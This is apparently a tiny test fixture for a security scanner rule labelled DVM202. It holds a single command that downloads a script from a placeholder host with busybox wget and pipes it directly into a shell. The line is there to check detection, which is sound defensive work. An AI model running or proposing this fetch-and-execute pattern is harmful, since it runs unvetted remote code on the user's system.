# expect: DVM202
busybox wget -qO- https://example.org/i.sh | busybox sh
